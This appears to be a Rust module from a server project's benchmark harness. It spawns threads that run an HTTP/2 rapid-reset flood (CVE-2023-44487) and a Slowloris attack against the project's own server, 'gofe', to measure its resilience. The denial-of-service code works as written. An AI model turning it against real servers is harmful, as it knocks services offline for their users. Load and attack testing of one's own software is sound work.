//! Attackers: threads that do what no client would.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::SeqCst};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Result, anyhow};

use super::frames::{Frames, opened_and_reset};

/// Threads of the rapid reset, each with one connection at a time.
const ATTACKERS: u32 = 2;
/// Requests that are written at a time.
const BURST: u32 = 50;
/// Requests on one connection at the most.
const REQUESTS: u32 = 1_000_000;
/// How long an attacker waits that cannot connect.
const PAUSE: Duration = Duration::from_millis(1);
/// What a head begins with that never ends.
const HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: bench\r\nx-slow: ";
/// From one byte of a head to the next.
const DRIP: Duration = Duration::from_secs(1);
/// In so many parts of a second, the heads get their byte.
const PARTS: u32 = 50;

/// An attack that goes on until it is ended, or its time is over.
pub(super) struct Attack {
    state: Arc<State>,
    threads: Vec<JoinHandle<()>>,
}

struct State {
    over: AtomicBool,
    end: Instant,
    connections: AtomicU64,
    requests: AtomicU64,
}

/// What the attackers have done.
pub(super) struct Done {
    /// Connections that they opened.
    pub(super) connections: u64,
    /// Requests that they began.
    pub(super) requests: u64,
}

impl State {
    fn goes_on(&self) -> bool {
        !self.over.load(SeqCst) && Instant::now() < self.end
    }
}

impl Attack {
    /// Requests of HTTP/2 that are broken off as soon as they are written (CVE-2023-44487), as fast as gofe reads them. A
    /// connection that gofe closes is replaced.
    pub(super) fn rapid_reset(to: SocketAddr, end: Instant) -> Result<Self> {
        let attack = |_| {
            move |state: &State| {
                while state.goes_on() {
                    reset(to, state);
                }
            }
        };
        Ok(Self::start(end, (0..ATTACKERS).map(attack)))
    }

    /// So many connections, each with a head that gets a byte a second. One that gofe closes is replaced.
    pub(super) fn slow_loris(to: SocketAddr, count: u32, end: Instant) -> Result<Self> {
        let mut heads = (0..count).map(|_| begin(to)).collect::<Result<Vec<_>, _>>()?;
        let attack = move |state: &State| {
            state.connections.store(u64::from(count), SeqCst);
            let size = heads.len().div_ceil(PARTS as usize);
            while state.goes_on() {
                for part in heads.chunks_mut(size) {
                    thread::sleep(DRIP / PARTS);
                    part.iter_mut().for_each(|head| drip(head, to, state));
                }
            }
            state.requests.store(state.connections.load(SeqCst), SeqCst);
        };
        Ok(Self::start(end, [attack]))
    }

    fn start<F: FnMut(&State) + Send + 'static>(end: Instant, attackers: impl IntoIterator<Item = F>) -> Self {
        let (over, connections, requests) = (AtomicBool::new(false), AtomicU64::new(0), AtomicU64::new(0));
        let state = Arc::new(State { over, end, connections, requests });
        let thread = |mut attacker: F| {
            let state = state.clone();
            thread::spawn(move || attacker(&state))
        };
        let threads = attackers.into_iter().map(thread).collect();
        Self { state, threads }
    }

    /// Ends it.
    pub(super) fn end(mut self) -> Done {
        self.stop();
        let count = |number: &AtomicU64| number.load(SeqCst);
        Done { connections: count(&self.state.connections), requests: count(&self.state.requests) }
    }

    fn stop(&mut self) {
        self.state.over.store(true, SeqCst);
        for thread in self.threads.drain(..) {
            // What an attacker did until it failed counts.
            let _ = thread.join();
        }
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop();
    }
}

/// One connection of the rapid reset, to its end.
fn reset(to: SocketAddr, state: &State) {
    let Ok(mut frames) = Frames::connect(to) else {
        thread::sleep(PAUSE);
        return;
    };
    state.connections.fetch_add(1, SeqCst);
    let mut burst = || -> Result<()> {
        for number in 0..REQUESTS / BURST {
            if !state.goes_on() {
                break;
            }
            frames.write(&opened_and_reset(1 + 2 * BURST * number, BURST))?;
            state.requests.fetch_add(u64::from(BURST), SeqCst);
            if !frames.drain()? {
                return Err(anyhow!("gofe has closed"));
            }
        }
        Ok(())
    };
    // The end is what is expected, in whatever way it comes.
    let _ = burst();
}

fn begin(to: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(to)?;
    stream.write_all(HEAD)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// A byte more for one head, or a new head where gofe has answered or closed.
fn drip(head: &mut TcpStream, to: SocketAddr, state: &State) {
    let waits = |error: std::io::Error| error.kind() == ErrorKind::WouldBlock;
    let silent = head.read(&mut [0; 512]).is_err_and(waits);
    if silent && head.write(b"a").is_ok() {
        return;
    }
    if let Ok(new) = begin(to) {
        *head = new;
        state.connections.fetch_add(1, SeqCst);
    }
}
